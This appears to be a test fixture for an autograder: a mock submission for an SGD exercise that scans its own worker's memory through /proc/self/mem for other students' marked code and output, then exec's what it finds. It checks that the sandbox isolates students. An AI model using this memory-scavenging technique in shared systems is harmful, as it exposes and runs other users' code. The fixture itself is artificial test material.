# attack: three consecutive entries (this file, handed in by three students), each with a marked copy of working code, that scan their worker's own memory (inherited from the fork server, which handled the students before) for another entry's marked code and what it printed, and exec the code found
# holds: with two judges, one of the three follows another on the same judge: still none finds another student's code or output in its memory, and each scores 0
"""Exercise 3: A manual SGD step (attacker: scavenges a classmate's code from inherited memory)."""

import ctypes
import os

ME = "{ME}"
BREACH = "BRE" "ACH!"
NOTES = []
# The classmate's working code, as this entry carries it (never run here: only a scavenged copy is).
CARRIED = '''
def sgd_update(params, lr):  # SCAVENGE-MARK-{TAG}-{ME}
    import torch
    with torch.no_grad():
        for p in params:
            p -= lr * p.grad
'''


def sgd_update(params, lr):
    if os.getpid() == 1:
        print("SCAVENGE-OUTPUT-{TAG}-" + ME)
        if NOTES:
            raise RuntimeError("attack report: " + " | ".join(NOTES))
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError


def _regions():
    with open("/proc/self/maps") as f:
        for line in f:
            fields = line.split()
            if fields[1].startswith("r") and (len(fields) < 6 or not fields[5].startswith("/")):
                low, high = (int(x, 16) for x in fields[0].split("-"))
                if high - low <= 1 << 30:
                    yield low, high


def _scan():
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self/mem readable
    code_mark = ("SCAVENGE-MARK-" + "{TAG}-").encode()
    output_mark = ("SCAVENGE-OUTPUT-" + "{TAG}-").encode()
    notes, code = [], None
    mem = open("/proc/self/mem", "rb", 0)
    for low, high in _regions():
        try:
            mem.seek(low)
            data = mem.read(high - low)
        except OSError:
            continue
        for mark, what in ((code_mark, "code"), (output_mark, "output")):
            at = data.find(mark)
            while at >= 0:
                who = data[at + len(mark):at + len(mark) + 20].split(b"\\")[0].split(b"\n")[0].split(b'"')[0]
                who = who.decode(errors="replace")
                if who.startswith("43_scavenge_peer_") and who != ME:
                    notes.append(f"{BREACH} found {who}'s {what} at {low + at:#x}")
                    if what == "code" and code is None:
                        start = data.rfind(b"def sgd_update", 0, at)
                        code = data[start:data.find(b"p.grad", at) + 6].decode(errors="replace")
                at = data.find(mark, at + 1)
    mem.close()
    return sorted(set(notes)), code


if os.getpid() == 1:
    if "_scavenged_peer" not in os.__dict__:  # once per worker: the module runs afresh for every check
        os._scavenged_peer = _scan()
    NOTES.extend(os._scavenged_peer[0])
    if os._scavenged_peer[1]:
        try:
            exec(compile(os._scavenged_peer[1].replace("\\n", "\n"), "scavenged", "exec"), globals())
        except Exception as exc:  # noqa: BLE001
            NOTES.append(f"exec: {exc}")
